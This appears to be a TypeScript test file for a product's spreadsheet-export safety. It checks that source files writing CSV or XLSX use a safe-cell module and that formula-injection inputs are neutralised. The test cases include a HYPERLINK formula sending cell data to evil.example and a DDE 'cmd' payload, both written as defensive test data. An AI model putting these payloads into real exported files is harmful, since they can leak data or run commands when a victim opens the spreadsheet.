import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { csvField, csvLine, safeCell } from '../../src/domain/spreadsheet.ts';
import { openTable } from '../../src/import/read-table.ts';

/**
 * CSV/formula injection. The product writes no CSV or XLSX today (reports are DOCX and Markdown, lists JSON or a
 * terminal table; spreadsheets are only read): the guard below keeps it that way unless a writer uses the safe
 * cells of src/domain/spreadsheet.ts, which are tested here.
 */
const SRC = path.resolve(import.meta.dirname, '../../src');
const files = (dir: string): string[] => fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? files(path.join(dir, e.name)) : e.name.endsWith('.ts') ? [path.join(dir, e.name)] : []));
/** What writing a spreadsheet looks like in this code base's dependencies (exceljs, csv-stringify) or over HTTP. */
const WRITES_SPREADSHEET = /addWorksheet\(|\.xlsx\.write|writeBuffer\(|csv-stringify|['"]text\/csv|\.type\(['"]csv['"]\)|\.csv['"`]\s*[,)]\s*.*(writeFile|createWriteStream)/;

describe('CSV/XLSX written by the product', () => {
  it('every source file that writes a spreadsheet goes through src/domain/spreadsheet.ts (none does today)', () => {
    const writers = files(SRC).filter((f) => !f.endsWith('spreadsheet.ts') && WRITES_SPREADSHEET.test(fs.readFileSync(f, 'utf8')));
    const unsafe = writers.filter((f) => !/from ['"][./]*(?:domain\/)?spreadsheet\.ts['"]/.test(fs.readFileSync(f, 'utf8')));
    expect(unsafe.map((f) => path.relative(SRC, f))).toEqual([]);
  });
});

describe('safe cells', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', `'=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+1+1', "'+1+1"],
    ['-2+3+cmd|x', "'-2+3+cmd|x"],
    ['@SUM(1,2)', "'@SUM(1,2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
  ])('%j is written as text', (input, expected) => {
    expect(safeCell(input)).toBe(expected);
  });

  it('numbers, plain numbers in text, phone numbers with +84 and ordinary Vietnamese text are left alone', () => {
    for (const v of [12, -3.5, true, '-12', '+84912345678', '1.000.000', 'Phản ánh về đèn đường', 'PA-2406-0001', 'a=b']) expect(safeCell(v)).toBe(v);
    expect(safeCell(null)).toBeNull();
    expect(safeCell(undefined)).toBeNull();
  });

  it('a CSV line quotes what must be quoted and reads back, through the product\'s own reader, as the safe text', async () => {
    const line = csvLine(['PA-2406-0001', '=1+2', 'dòng 1\ndòng 2', 'có "ngoặc", dấu phẩy', 42]);
    expect(line).toBe(`PA-2406-0001,'=1+2,"dòng 1\ndòng 2","có ""ngoặc"", dấu phẩy",42`);
    expect(csvField('a;b', ';')).toBe('"a;b"');
    const table = await openTable(Buffer.from(`a,b,c,d,e\n${line}\n`), ['a', 'b', 'c', 'd', 'e'].map((c) => ({ canonical: c, aliases: [] })), { fileName: 'x.csv' });
    const rows = [];
    for await (const r of table.rows) rows.push(r.values);
    expect(rows).toEqual([{ a: 'PA-2406-0001', b: "'=1+2", c: 'dòng 1\ndòng 2', d: 'có "ngoặc", dấu phẩy', e: '42' }]);
  });
});
